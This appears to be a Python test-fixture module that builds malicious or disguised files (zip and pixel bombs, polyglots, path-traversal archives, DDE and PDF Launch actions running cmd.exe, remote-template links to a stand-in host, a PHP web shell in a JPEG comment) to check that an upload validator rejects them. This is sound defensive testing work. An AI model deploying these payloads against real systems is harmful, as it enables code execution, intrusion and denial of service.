"""Files that are not what they say, or do what they should not: built by code, with the verdict.

Each row: a name, how to make it, the key of the sentence that keeps it out. ``flagged`` are those
that come in with a finding beside them.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Mapping
from typing import NamedTuple

from PIL import Image

from tests.papers import (
    PDF,
    archive,
    book_stream,
    compound,
    doc,
    docx,
    docx_parts,
    pdf,
    picture,
    record,
    relations,
    with_parts,
    word_stream,
    xls,
    xlsx,
)


class Hostile(NamedTuple):
    """A file that must not come in: what is wrong, its name, its bytes, the reason."""

    what: str
    name: str
    make: Callable[[], bytes]
    key: str


class Flagged(NamedTuple):
    """A file that comes in with findings."""

    what: str
    name: str
    make: Callable[[], bytes]
    flags: set[str]


PROGRAM = b"MZ" + bytes(76) + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(200)
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


# --- archives -------------------------------------------------------------------------------------


def bomb_by_ratio() -> bytes:
    """A part of nothing but noughts, a thousand times smaller than what comes out."""
    return with_parts(docx(), {"word/media/image1.bmp": bytes(12 * 1024 * 1024)})


def bomb_by_total() -> bytes:
    """Many parts, each of them honest in its ratio."""
    piece = b"".join(
        struct.pack("<I", number * 2654435761 % 2**32)[:1] * 60 for number in range(70_000)
    )
    return with_parts(docx(), {f"word/media/image{number}.bmp": piece for number in range(80)})


def bomb_by_count() -> bytes:
    """More parts than any document has."""
    return with_parts(docx(), {f"word/media/{number}.bin": b"x" for number in range(5_100)})


Entry = tuple[bytes, bytes, int, int, int | None]


def raw_archive(entries: list[Entry]) -> bytes:
    """An archive written by hand: name, packed bytes, size, checksum, place of its header."""
    out, places, methods = bytearray(), [], []
    for name, packed, size, crc, place in entries:
        places.append(len(out) if place is None else place)
        methods.append(0 if (len(packed), zlib.crc32(packed)) == (size, crc) else 8)
        if place is None:
            out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, methods[-1], 0, 0, crc,
                               len(packed), size, len(name), 0) + name + packed  # fmt: skip
    begin = len(out)
    for (name, packed, size, crc, _), place, method in zip(entries, places, methods, strict=True):
        out += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc,
                           len(packed), size, len(name), 0, 0, 0, 0, 0, place) + name  # fmt: skip
    length = len(out) - begin
    return bytes(out + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries),
                                   length, begin, 0))  # fmt: skip


def deflated(content: bytes) -> bytes:
    """Raw deflate, as archives hold it."""
    machine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return machine.compress(content) + machine.flush()


def entries_of(parts: Mapping[str, bytes | str]) -> list[Entry]:
    """Parts as entries for ``raw_archive``."""
    rows: list[Entry] = []
    for name, content in parts.items():
        data = content.encode() if isinstance(content, str) else content
        rows.append((name.encode(), deflated(data), len(data), zlib.crc32(data), None))
    return rows


def overlapping() -> bytes:
    """One stretch of bytes that two parts share, as the best bombs do."""
    rows = entries_of(docx_parts())
    shared, name = bytes(1_000), b"word/media/b.bin"
    crc = zlib.crc32(shared)
    inner = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, 1_000, 1_000,
                        len(name), 0) + name + shared  # fmt: skip
    outer = (b"word/media/a.bin", inner, len(inner), zlib.crc32(inner), None)
    begin = sum(30 + len(row[0]) + len(row[1]) for row in rows) + 30 + len(outer[0])
    return raw_archive([*rows, outer, (name, shared, 1_000, crc, begin)])


def lying_size() -> bytes:
    """The directory says ten bytes; a thousand come out."""
    data = b"x" * 1_000
    return raw_archive(
        [*entries_of(docx_parts()),
         (b"word/media/a.bin", deflated(data), 10, zlib.crc32(data[:10]), None)]
    )  # fmt: skip


def lying_directory() -> bytes:
    """The local header has another name than the directory."""
    content = bytearray(raw_archive(entries_of({**docx_parts(), "word/media/a.bin": b"text"})))
    place = content.find(b"word/media/a.bin")
    content[place : place + 16] = b"word/media/b.exe"
    return bytes(content)


def twice_the_same_name() -> bytes:
    """Two parts of one name: which of them counts depends on who reads."""
    return raw_archive([*entries_of(docx_parts()), entries_of({"word/document.xml": b"<x/>"})[0]])


def locked_archive() -> bytes:
    """A part that needs a password."""
    content = bytearray(docx())
    content[6] |= 1
    place = content.find(b"PK\x01\x02")
    content[place + 8] |= 1
    return bytes(content)


# --- Office ---------------------------------------------------------------------------------------


def word_with(target: str, kind: str, part: str = "word/_rels/settings.xml.rels") -> bytes:
    """A Word file with a relation to something outside of it."""
    return with_parts(docx(), {part: relations((kind, target, True))})


def dde_field() -> bytes:
    """A field that runs a program, its instruction split over two runs."""
    run = '<w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r>'
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    text = run.format(" DDE") + run.format('AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')
    return archive(docx_parts(body=f"<w:p>{char.format('begin')}{text}{char.format('end')}</w:p>"))


def dde_link() -> bytes:
    """A workbook that talks to a program."""
    link = (
        '<?xml version="1.0"?><externalLink '
        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    return with_parts(xlsx(), {"xl/externalLinks/externalLink1.xml": link})


def doctype() -> bytes:
    """Entities that multiply when they are read."""
    text = (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        '<w:document xmlns:w="x">&b;</w:document>'
    )
    return with_parts(docx(), {"word/document.xml": text})


def ole_package() -> bytes:
    """A file of any kind wrapped as an object."""
    return with_parts(
        docx(),
        {
            "word/embeddings/oleObject1.bin": compound(
                {"\x01Ole10Native": b"calc.exe\x00" + PROGRAM}
            )
        },
    )


# --- PDF ------------------------------------------------------------------------------------------


def packed_objects(*texts: bytes) -> bytes:
    """Objects hidden inside an object stream."""
    head, body = b"", b""
    for number, text in enumerate(texts):
        head += b"%d %d " % (900 + number, len(body))
        body += text + b" "
    data = zlib.compress(head + body)
    return (
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(texts), len(head), len(data))
        + data
        + b"\nendstream"
    )


def encrypted_pdf() -> bytes:
    """A PDF that asks for a password."""
    lock = (
        b"<< /Filter /Standard /V 1 /R 2 /O <"
        + b"41" * 32
        + b"> /U <"
        + b"42" * 32
        + b"> /P -44 >>"
    )
    ident = b"/Encrypt 11 0 R /ID [<" + b"00" * 16 + b"> <" + b"00" * 16 + b">]"
    return pdf(objects=[lock], trailer=ident)


def attached(name: bytes) -> bytes:
    """A PDF with a file inside."""
    return pdf(
        catalog=b"/Names << /EmbeddedFiles << /Names [(" + name + b") 11 0 R] >> >>",
        objects=[
            b"<< /Type /Filespec /F (" + name + b") /UF (" + name + b") /EF << /F 12 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nabcd\nendstream",
        ],
    )


def launching_link() -> bytes:
    """A link on the page that starts a program; its name is written in codes."""
    action = b"<< /S /#4c#61unch /F (cmd.exe) >>"
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 500 500] /A " + action + b" >>"
    return pdf(page=b"/Annots [11 0 R]", objects=[link])


# --- pictures -------------------------------------------------------------------------------------


def png_bomb() -> bytes:
    """A picture of 900 million pixels in a few bytes."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        check = zlib.crc32(kind + content)
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)

    head = struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(3_751) * 64)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg_with_comment(text: bytes) -> bytes:
    """A picture with a remark inside."""
    content = picture("JPEG")
    return content[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + content[2:]


def gif() -> bytes:
    """A picture of a kind that is not taken."""
    buffer = io.BytesIO()
    Image.new("P", (4, 4)).save(buffer, "GIF")
    return buffer.getvalue()


def jar() -> bytes:
    """A Java program."""
    return archive({"META-INF/MANIFEST.MF": "Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe"})


OTHER_FILTER = b"<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode /Length 9 >>"

HOSTILE: tuple[Hostile, ...] = (
    # nothing, too much, something else
    Hostile("空文件", "空.pdf", lambda: b"", "empty"),
    Hostile("未知格式", "数据.dat", lambda: b"\x00\x01\x02", "format"),
    Hostile("程序", "安装.exe", lambda: PROGRAM, "format"),
    Hostile("双扩展名", "发票.pdf.exe", lambda: PROGRAM, "format"),
    Hostile("路径加流名", "发票.pdf:x.exe", lambda: PDF, "format"),
    Hostile("倒写的扩展名", "发票\u202efdp.exe", lambda: PROGRAM, "format"),
    Hostile("没有扩展名", "证明", lambda: PDF, "format"),
    Hostile("压缩包", "材料.zip", lambda: archive({"a.txt": b"x"}), "format"),
    Hostile("含宏的格式", "台账.xlsm", xlsx, "format"),
    Hostile("程序改名为 PDF", "证明.pdf", lambda: PROGRAM, "other"),
    Hostile("程序改名为图片", "照片.bmp", lambda: b"BM" + PROGRAM, "image_broken"),
    Hostile("网页改名为表格", "台账.xls", lambda: b"<html><table></table></html>", "other"),
    Hostile("网页改名为 PDF", "证明.pdf", lambda: HTML, "other"),
    Hostile("SVG 改名为图片", "图.png", lambda: b'<svg xmlns="x" onload="alert(1)"/>', "other"),
    Hostile("带声明的 SVG", "图.jpg", lambda: b'\xef\xbb\xbf<?xml version="1.0"?><svg />', "other"),
    Hostile("GIF 改名为 PNG", "图.png", gif, "other"),
    Hostile("PDF 改名为图片", "扫描.jpg", lambda: PDF, "other"),
    Hostile("RAR 改名为 Word", "说明.docx", lambda: b"Rar!\x1a\x07\x00" + bytes(50), "other"),
    Hostile("新版改名为旧版", "说明.doc", docx, "other"),
    Hostile("Excel 改名为 Word", "说明.docx", xlsx, "content"),
    Hostile("旧版 Word 改名为 Excel", "台账.xls", doc, "content"),
    Hostile("Java 程序改名为 Word", "说明.docx", jar, "content"),
    Hostile("音频冒充 WEBP", "图.webp", lambda: b"RIFF\x10\x00\x00\x00WAVEfmt ", "content"),
    Hostile("文本改名为 PDF", "证明.pdf", "证明".encode, "content"),
    # two things in one
    Hostile("PDF 后接压缩包", "证明.pdf", lambda: PDF + archive({"a.exe": PROGRAM}), "polyglot"),
    Hostile("PDF 前有内容", "证明.pdf", lambda: b"GARBAGE\n" + PDF, "header"),
    Hostile("PDF 藏在网页里", "证明.pdf", lambda: b"%PDF-1.4\n" + HTML + PDF, "polyglot"),
    Hostile("PDF 后接程序", "证明.pdf", lambda: PDF + PROGRAM, "polyglot"),
    Hostile("PDF 后接大量数据", "证明.pdf", lambda: PDF + b"\x01" * 5_000, "polyglot"),
    Hostile("图片后接压缩包", "图.png", lambda: picture() + archive({"a": b"x"}), "polyglot"),
    Hostile("图片后接 Java 程序", "图.jpg", lambda: picture("JPEG") + jar(), "polyglot"),
    Hostile("图片后接网页", "图.jpg", lambda: picture("JPEG") + HTML, "polyglot"),
    Hostile("图片注释里的脚本", "图.jpg",
            lambda: jpeg_with_comment(b"<?php system($_GET[0]); ?>"), "polyglot"),
    Hostile("图片注释里的网页", "图.jpg",
            lambda: jpeg_with_comment(b"<script>alert(1)</script>"), "polyglot"),
    Hostile("图片后接 PDF", "图.bmp", lambda: picture("BMP") + PDF, "polyglot"),
    Hostile("Word 后接数据", "说明.docx", lambda: docx() + HTML, "polyglot"),
    # archives
    Hostile("压缩比炸弹", "说明.docx", bomb_by_ratio, "bomb"),
    Hostile("总量炸弹", "说明.docx", bomb_by_total, "bomb"),
    Hostile("数量炸弹", "说明.docx", bomb_by_count, "bomb"),
    Hostile("重叠炸弹", "说明.docx", overlapping, "bomb"),
    Hostile("谎报大小", "说明.docx", lying_size, "lying"),
    Hostile("前后不一的目录", "说明.docx", lying_directory, "lying"),
    Hostile("同名部件", "说明.docx", twice_the_same_name, "lying"),
    Hostile("套娃压缩包", "说明.docx",
            lambda: with_parts(docx(), {"word/media/image1.png": archive({"a": b"x"})}), "nested"),
    Hostile("嵌入文件里再嵌入", "说明.docx",
            lambda: with_parts(docx(), {"word/embeddings/a.docx": with_parts(
                docx(), {"word/embeddings/b.docx": docx()})}), "nested"),
    Hostile("上级路径", "说明.docx",
            lambda: with_parts(docx(), {"../../etc/x": b"x"}), "traversal"),
    Hostile("绝对路径", "说明.docx", lambda: with_parts(docx(), {"/etc/x": b"x"}), "traversal"),
    Hostile("反斜杠路径", "说明.docx",
            lambda: raw_archive([*entries_of(docx_parts()), *entries_of({"..\\x": b"x"})]),
            "traversal"),
    Hostile("加密的部件", "说明.docx", locked_archive, "encrypted"),
    Hostile("截断的 Word", "说明.docx", lambda: docx()[:-40], "broken"),
    Hostile("只有开头", "说明.docx", lambda: b"PK\x03\x04nothing", "broken"),
    # Office
    Hostile("宏", "说明.docx",
            lambda: with_parts(docx(), {"word/vbaProject.bin": compound({"VBA/dir": b"x"})}),
            "macro"),
    Hostile("含宏的类型", "说明.docx", lambda: archive(docx_parts(kind=MACRO_TYPE)), "macro"),
    Hostile("宏表", "台账.xlsx",
            lambda: with_parts(xlsx(), {"xl/macrosheets/sheet1.xml": "<x/>"}), "macro"),
    Hostile("ActiveX", "说明.docx",
            lambda: with_parts(docx(), {"word/activeX/activeX1.bin": b"x"}), "activex"),
    Hostile("对象包", "说明.docx", ole_package, "program"),
    Hostile("内嵌程序", "说明.docx",
            lambda: with_parts(docx(), {"word/embeddings/a.bin": PROGRAM}), "program"),
    Hostile("内嵌脚本", "说明.docx",
            lambda: with_parts(docx(), {"customXml/a.js": b"x"}), "program"),
    Hostile("网络模板", "说明.docx",
            lambda: word_with("http://198.51.100.7/a.dotm", "attachedTemplate"), "template"),
    Hostile("共享文件夹上的模板", "说明.docx",
            lambda: word_with("file://198.51.100.7/a.dotm", "attachedTemplate"), "template"),
    Hostile("网络对象", "说明.docx",
            lambda: word_with("mhtml:http://198.51.100.7/a!x-usc:x", "oleObject"), "object"),
    Hostile("DDE 域", "说明.docx", dde_field, "dde"),
    Hostile("DDE 链接", "台账.xlsx", dde_link, "dde"),
    Hostile("XML 实体", "说明.docx", doctype, "doctype"),
    Hostile("加密的新版 Office", "说明.docx",
            lambda: compound({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"x"}),
            "encrypted"),
    Hostile("旧版 Word 宏", "说明.doc",
            lambda: compound({"WordDocument": word_stream(), "Macros/VBA/dir": b"x"}), "macro"),
    Hostile("旧版 Word 密码", "说明.doc",
            lambda: compound({"WordDocument": word_stream(flags=0x100)}), "encrypted"),
    Hostile("旧版 Word DDE", "说明.doc",
            lambda: compound({"WordDocument": word_stream(text=b"\x13 DDEAUTO cmd \x14")}), "dde"),
    Hostile("旧版 Excel 密码", "台账.xls",
            lambda: compound({"Workbook": book_stream(record(0x2F, bytes(54)))}), "encrypted"),
    Hostile("旧版 Excel 宏表", "台账.xls",
            lambda: compound({"Workbook": book_stream(sheet=1)}), "macro"),
    Hostile("旧版 PPT 密码", "汇报.ppt",
            lambda: compound({"PowerPoint Document": b"x",
                              "Current User": b"\x00\x00\xf6\x0f\x14\x00\x00\x00\xdf\xc4\xd1\xf3"}),
            "encrypted"),
    Hostile("旧版 PPT 宏", "汇报.ppt",
            lambda: compound({"PowerPoint Document": b"\x02\x00\x00\x04\x0c\x00\x00\x00"
                              b"\x05\x00\x00\x00\x01\x00\x00\x00\x02\x00\x00\x00"}), "macro"),
    Hostile("旧版里的对象包", "说明.doc",
            lambda: compound({"WordDocument": word_stream(),
                              "ObjectPool/_1/\x01Ole10Native": PROGRAM}), "program"),
    Hostile("截断的旧版", "台账.xls", lambda: xls()[:700], "broken"),
    # PDF
    Hostile("加密的 PDF", "证明.pdf", encrypted_pdf, "encrypted"),
    Hostile("启动程序", "证明.pdf",
            lambda: pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "launch"),
    Hostile("写成代码的启动程序", "证明.pdf", launching_link, "launch"),
    Hostile("藏在对象流里的启动程序", "证明.pdf",
            lambda: pdf(objects=[packed_objects(b"<< /S /Launch /F (cmd.exe) >>")]), "launch"),
    Hostile("PDF 里的程序", "证明.pdf", lambda: attached(b"setup.exe"), "program"),
    Hostile("截断的 PDF", "证明.pdf", lambda: PDF[:300], "truncated"),
    Hostile("打不开的 PDF", "证明.pdf", lambda: b"%PDF-1.4\nnothing\n%%EOF\n", "pdf_broken"),
    Hostile("没有页的 PDF", "证明.pdf", lambda: pdf(pages=0), "pdf_broken"),
    Hostile("页数过多", "证明.pdf", lambda: pdf(pages=5_001), "pages"),
    Hostile("查不了的编码", "证明.pdf",
            lambda: pdf(objects=[OTHER_FILTER + b"\nstream\n3c3c3e3e>\nendstream"]), "unreadable"),
    # pictures
    Hostile("像素炸弹", "图.png", png_bomb, "pixels"),
    Hostile("截断的图片", "图.png", lambda: picture(size=(300, 300))[:-60], "image_broken"),
    Hostile("截断的照片", "图.jpg", lambda: picture("JPEG", (400, 400))[:500], "image_broken"),
    Hostile("只有开头的图片", "图.tif", lambda: b"II*\x00" + bytes(20), "image_broken"),
)  # fmt: skip

FLAGGED: tuple[Flagged, ...] = (
    Flagged("PDF 脚本", "表.pdf",
            lambda: pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
            {"script"}),
    Flagged("藏在对象流里的脚本", "表.pdf",
            lambda: pdf(objects=[packed_objects(b"<< /S /Java#53cript /JS (x) >>")]), {"script"}),
    Flagged("PDF 附件", "表.pdf", lambda: attached(b"list.xlsx"), {"attachments"}),
    Flagged("PDF 提交表单", "表.pdf",
            lambda: pdf(catalog=b"/OpenAction << /S /SubmitForm /F (http://198.51.100.7) >>"),
            {"external_links"}),
    Flagged("Word 里的工作簿", "说明.docx",
            lambda: with_parts(docx(), {"word/embeddings/a.xlsx": xlsx()}), {"attachments"}),
    Flagged("链接的图片", "说明.docx",
            lambda: word_with("http://198.51.100.7/a.png", "image",
                              "word/_rels/document.xml.rels"), {"external_links"}),
    Flagged("别的工作簿", "台账.xlsx",
            lambda: with_parts(xlsx(), {"xl/externalLinks/externalLink1.xml":
                               '<externalLink xmlns="x"><externalBook/></externalLink>'}),
            {"external_links"}),
    Flagged("数字签名", "说明.docx",
            lambda: with_parts(docx(), {"_xmlsignatures/sig1.xml": "<x/>"}), {"signed"}),
    Flagged("旧版里的对象", "说明.doc",
            lambda: compound({"WordDocument": word_stream(), "ObjectPool/_1/CONTENTS": b"x"}),
            {"attachments"}),
)  # fmt: skip
